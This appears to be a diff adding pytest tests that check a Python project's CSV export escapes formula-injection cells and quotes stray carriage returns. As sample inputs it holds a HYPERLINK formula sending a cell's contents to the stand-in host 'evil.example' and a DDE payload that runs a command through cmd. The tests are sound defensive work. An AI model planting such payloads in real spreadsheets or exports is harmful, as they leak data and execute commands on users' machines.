@@ -139,3 +139,79 @@ def test_csv_html_json_and_tenancy(demo: tuple[Acme, str, dict], tmp_path: Path)
     service = acme.service()
     with pytest.raises(NotFound):
         service.ropa(service.principal("gwen@globex"), run)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_ropa_csv_prefixes_every_formula_cell_in_every_column() -> None:
+    """CSV injection: a cell of any column that starts with = + - @, tab or CR gets a leading '
+    (OWASP); what follows is kept verbatim, and ordinary cells are untouched."""
+    from warden.investigate.ropa import ropa_csv
+
+    source = {"kind": "passage", "document": "@notice.md", "passage_id": "p1", "quote": FORMULA}
+    fields = {name: {"gap": False, "values": [], "gap_findings": []} for name in FIELDS}
+    name = FIELDS[0]
+    fields[name] = {
+        "gap": True,
+        "gap_findings": ["+cmd|' /C calc'!A0"],
+        "values": [{"value": "-1+1", "source": source}],
+    }
+    record = {"activities": [{"system": "\tcrm", "purpose": "\rto sell", "fields": fields}]}
+    rows = list(csv.reader(io.StringIO(ropa_csv(record))))
+    cells = [c for row in rows[1:] for c in row]
+    assert [c for c in cells if c[:1] in TRIGGERS] == []
+    gap_row, value_row = rows[1], rows[2]
+    assert gap_row == ["'\tcrm", "'\rto sell", name, "", "'+cmd|' /C calc'!A0", "", "gap"]
+    assert value_row == ["'\tcrm", "'\rto sell", name, "'-1+1", "'@notice.md p1", "'" + FORMULA, ""]
+    plain = {
+        "activities": [
+            {
+                "system": "crm",
+                "purpose": "to sell",
+                "fields": {
+                    n: {
+                        "gap": False,
+                        "values": [
+                            {
+                                "value": "user.name",
+                                "source": {**source, "document": "notice.md", "quote": "We sell."},
+                            }
+                        ],
+                    }
+                    for n in FIELDS
+                },
+            }
+        ]
+    }
+    assert {c for row in csv.reader(io.StringIO(ropa_csv(plain))) for c in row[1:] if c} >= {
+        "to sell",
+        "user.name",
+        "notice.md p1",
+        "We sell.",
+    }
+    assert not any(c.startswith("'") for row in csv.reader(io.StringIO(ropa_csv(plain))) for c in row)
+
+
+def test_spreadsheet_safe_cell_is_the_one_rule() -> None:
+    from warden.investigate.spreadsheet import safe_cell, safe_row
+
+    assert [safe_cell(t + "x") for t in TRIGGERS] == ["'" + t + "x" for t in TRIGGERS]
+    assert safe_row(["x=1", " =1", "'=1", "", None, -1, 2.5]) == ["x=1", " =1", "'=1", "", None, -1, 2.5]
+
+
+def test_a_carriage_return_inside_a_cell_cannot_start_a_row_of_its_own() -> None:
+    """Python 3.11's csv writer leaves a bare CR unquoted with "\\n" line ends; a spreadsheet then
+    starts a row at it, with the formula after it in the first cell. The row is quoted instead."""
+    from warden.investigate import spreadsheet
+
+    out = io.StringIO()
+    writer = spreadsheet.writer(out)
+    writer.writerow(["a", "b"])
+    writer.writerow(["ok", f"quote\r{FORMULA}"])
+    writer.writerow(["x", None, 3])
+    text = out.getvalue()
+    assert text.startswith("a,b\n") and text.endswith("x,,3\n")
+    assert '"ok","quote\r=HYPERLINK(' in text  # the CR inside a quoted field, not a row break
+    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["ok", f"quote\r{FORMULA}"], ["x", "", "3"]]
